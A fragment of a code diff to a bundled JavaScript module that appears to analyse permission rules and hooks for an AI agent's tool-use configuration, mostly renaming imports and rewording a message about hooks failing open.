 }
@@ -3864,7 +4370,7 @@ function attachMatches(trace, s) {
 	const stack = s.stack;
 	if (!p || !s.access) return;
 	const access = s.access;
-	const t = require_rule_table.ruleTable(stack);
+	const t = require_checks.ruleTable(stack);
 	const winner = policyWinner(p);
 	const policyDecided = winner !== void 0 && trace.decision === p.decision && POLICY_LAYERS.has(trace.decidedBy.layer) && sameLoc(trace.decidedBy.source, winner.source);
 	let grants;
@@ -4422,7 +4928,7 @@ const hooksLayer = {
 		const names = matcherNames(s.tool, s.access);
 		const matching = [];
 		for (const h of pre) {
-			const m = require_rule_table.matcherSelects(h.matcher, names);
+			const m = matcherSelects(h.matcher, names);
 			if (m === "invalid") s.warnings.push(`hook '${h.name}': matcher ${JSON.stringify(h.matcher)} is not a valid regular expression, so it never fires`);
 			else if (m) matching.push(h);
 		}
@@ -5152,10 +5658,10 @@ function segmentVerdicts(stack, whole, opts, trace) {
 		shell: require_shell.segmentAlone(shell, seg, inner(seg, i)),
 		segmentRun: true
 	}));
-	const innerKey = (seg, i) => JSON.stringify(inner(seg, i).map((o) => ({
+	const innerKey = (seg, i) => inner(seg, i).map((o) => ({
 		...o,
 		range: [o.range[0] - seg.range[0], o.range[1] - seg.range[0]]
-	})));
+	}));
 	const out = require_faithful.eachSegmentOnce(shell, one, innerKey);
 	for (const o of shell.opaque) {
 		if (shell.segments.some((seg) => require_faithful.overlaps(o.range, seg.range))) continue;
@@ -5217,13 +5723,13 @@ function samples(h) {
 	return PROBES.filter((c) => {
 		const info = toolInfo(c.tool);
 		const a = accessOf(info, c.input);
-		return require_rule_table.matcherSelects(h.matcher, matcherNames(info, "error" in a ? void 0 : a)) === true;
+		return matcherSelects(h.matcher, matcherNames(info, "error" in a ? void 0 : a)) === true;
 	});
 }
-const FAILS_OPEN = "grok fails open: a hook that times out, crashes, cannot start or answers malformed output is logged and the call goes on; only {\"decision\": \"deny\"} or exit code 2 blocks";
+const FAILS_OPEN = "grok fails open on a hook that times out, crashes, cannot start or answers malformed output (it logs the failure; only {\"decision\": \"deny\"} or exit code 2 blocks)";
 function record(stack, h, label, n) {
 	const gates = h.event === "PreToolUse";
-	const invalid = require_rule_table.matcherSelects(h.matcher, ["x"]) === "invalid";
+	const invalid = matcherSelects(h.matcher, ["x"]) === "invalid";
 	return {
 		id: `${label}#${h.at ?? `hooks.${n}`}`,
 		name: h.name,
@@ -5247,7 +5753,7 @@ const tables = /* @__PURE__ */ new WeakMap();
 function grokHooks(stack) {
 	let t = tables.get(stack);
 	if (!t) {
-		const label = require_rule_table.fileLabel(stack);
+		const label = require_checks.fileLabel(stack);
 		const perFile = /* @__PURE__ */ new Map();
 		t = stack.hooks.map((h) => {
 			const n = (perFile.get(h.source.file) ?? 0) + 1;
@@ -5397,9 +5903,10 @@ const grok = {
 	describeStack: describeGrokStack,
 	problems: (s) => s.problems,
 	probes: grokProbes,
-	rules: require_rule_table.grokRules,
+	rules: require_checks.grokRules,
 	ruleMatches: grokRuleMatches,
-	hooks: grokHooks
+	hooks: grokHooks,
+	checks: require_checks.GROK_OWN_CHECKS
 };
 
 exports.grok = grok;
